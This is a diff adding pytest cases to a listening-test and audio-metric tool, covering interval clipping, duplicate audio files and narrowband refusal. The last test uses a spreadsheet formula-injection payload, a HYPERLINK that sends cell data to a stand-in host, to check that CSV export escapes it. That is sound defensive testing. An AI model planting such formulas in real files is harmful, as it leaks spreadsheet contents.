@@ -8,11 +8,13 @@ from pathlib import Path
 
 import numpy as np
 import pytest
+import soundfile as sf
 import torch
 from typer.testing import CliRunner
 
 from sectl.cli.app import app
 from sectl.report.listening import digest
+from tests.report.conftest import build_test, make_corpus
 from tests.report.test_build import page_data
 
 runner = CliRunner()
@@ -151,7 +153,8 @@ def test_the_interval_is_the_two_way_anova_form_computed_by_plain_loops(mushra_t
         variance = (ms_r + ms_u) / (len(rs) * len(us))
         df = (ms_r + ms_u) ** 2 / (ms_r**2 / (len(rs) - 1) + ms_u**2 / (len(us) - 1))
         half = stats.t.ppf(0.975, df) * variance**0.5
-        assert row["mean"] == pytest.approx(grand) and row["ci95"] == pytest.approx([grand - half, grand + half])
+        clipped = [max(grand - half, 0), min(grand + half, 100)]  # an interval never leaves the scale
+        assert row["mean"] == pytest.approx(grand) and row["ci95"] == pytest.approx(clipped)
 
 
 def test_the_intervals_cover_with_few_utterances_and_one_rater_is_warned(tmp_path):
@@ -336,3 +339,73 @@ def test_crafted_keys_and_markup_in_names_are_one_line_not_a_traceback(acr_test,
     files.append(crafted(tmp_path / "[red].json", acr_test, _set("test_id", "[/x]")))
     result = runner.invoke(app, ["eval", "--ratings", *map(str, files), "--test", str(acr_test)])
     assert result.exit_code == 1 and "[/a] [bold]" in result.stdout and "'[/x]'" in result.stderr, result.output
+
+
+def test_no_audio_file_is_listed_twice_so_check_clips_name_no_condition(acr_test, mushra_test, tmp_path):
+    """A gold or trapping clip played its test trial's file: in the page's source that file was listed twice, once
+    with an answer asked (the first system's clip) or without (the clean reference's): the utterance unblinded."""
+    from collections import Counter
+
+    for folder in (acr_test, mushra_test, build_test(make_corpus(tmp_path / "c", 6), tmp_path / "p835", "p835")):
+        data = page_data(folder / "site")["test"]
+        listed = Counter(name for t in data["practice"] + data["trials"] for name in [*t["audio"], t.get("reference")] if name)
+        assert max(listed.values()) == 1, [name for name, n in listed.items() if n > 1]
+        assert all((folder / "site" / name).is_file() for name in listed)
+    key = key_of(acr_test)
+    for trial in key["definition"]["trials"]:
+        if key["key"][trial["id"]]["kind"] in ("gold", "trap"):
+            same = next(t for t in key["definition"]["trials"] if key["key"][t["id"]]["kind"] == "test"
+                        and key["key"][t["id"]]["utterance"] == key["key"][trial["id"]]["utterance"]
+                        and key["key"][t["id"]]["conditions"] == key["key"][trial["id"]]["conditions"])  # fmt: skip
+            ours, theirs = (sf.read(acr_test / "site" / t["audio"][0])[0] for t in (trial, same))
+            assert np.array_equal(ours, theirs)  # the same clip, in a file of its own
+
+
+def test_intervals_never_leave_the_scale():
+    """A mean near the top of the scale had an upper bound past it (MUSHRA [87.31, 101.85], ACR [1.42, 5.08] in a
+    real test): each interval is clipped to the scale's range, and a difference to plus or minus its width."""
+    from sectl.report.analysis import analyse, two_way_interval
+    from sectl.report.ratings import Rater, TestKey
+
+    table = np.array([[100, 100, 100, 100], [100, 100, 100, 60]])
+    trials = [{"id": f"t{u}"} for u in range(4)]
+    definition = {"test_id": "x", "method": "mushra", "trials": trials, "scales": [{"name": "MUSHRA", "min": 0, "max": 100}]}
+    key = {f"t{u}": {"utterance": f"u{u}", "kind": "test", "conditions": ["A", "B"]} for u in range(4)}
+    test = TestKey(None, "0" * 64, definition, key, {"systems": [{"name": "A", "files": [], "mean": {}}]})
+    raters = [Rater(f"r{r}", f"r{r}", [{"id": f"t{u}", "ratings": {"MUSHRA": [int(v), int(100 - v)]}} for u, v in enumerate(row)], True)
+              for r, row in enumerate(table)]  # fmt: skip
+    scale = analyse(raters, test)["scales"]["MUSHRA"]
+    a, b = scale["conditions"]
+    unclipped = two_way_interval(table.astype(float))["ci95"]
+    assert unclipped[1] > 100 and a["ci95"] == [pytest.approx(unclipped[0]), 100]
+    assert b["ci95"][0] == 0 and b["ci95"][1] == pytest.approx(100 - unclipped[0])
+    pair = scale["pairwise"][0]
+    assert -100 <= pair["ci95"][0] <= pair["ci95"][1] <= 100 and pair["significant"]
+
+
+def test_mushra_on_narrowband_audio_is_refused_before_the_folder_is_touched(tmp_path):
+    """The 7 kHz anchor cannot be made from 8 kHz audio: refused with the way out, before any file is written (a
+    refusal halfway left a folder holding only its manifest, and the next run without --overwrite was refused)."""
+    corpus = make_corpus(tmp_path / "c", 3)
+    for folder in ("clean", "noisy"):
+        for path in (corpus / folder).iterdir():
+            sf.write(path, sf.read(path)[0][::2], 8000)
+    args = ["report", "--ref", str(corpus / "clean"), "--est", str(corpus / "noisy"), "-m", "si_sdr", "-o", str(tmp_path / "t")]
+    result = runner.invoke(app, [*args, "--test", "mushra"])
+    assert result.exit_code == 2 and "7 kHz MUSHRA anchor" in result.output and "--test acr or p835" in result.output
+    assert not any((tmp_path / "t").iterdir()) if (tmp_path / "t").exists() else True
+    result = runner.invoke(app, [*args, "--test", "acr"])
+    assert result.exit_code == 0, result.output
+
+
+def test_a_rater_id_like_a_formula_is_inert_in_the_csv(acr_test, tmp_path):
+    """The rater id is typed by whoever rates: `=HYPERLINK(...)` ran as a formula where the --csv file was opened
+    in a spreadsheet."""
+    rater = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    files = [write_ratings(tmp_path / "a.json", acr_test, rater, honest), write_ratings(tmp_path / "b.json", acr_test, "bo", honest)]
+    result = runner.invoke(app, ["eval", "--ratings", *map(str, files), "--test", str(acr_test), "--csv", str(tmp_path / "r.csv")])
+    assert result.exit_code == 0, result.output
+    import csv
+
+    rows = list(csv.DictReader((tmp_path / "r.csv").open()))
+    assert {r["rater"] for r in rows} == {"'" + rater, "bo"}
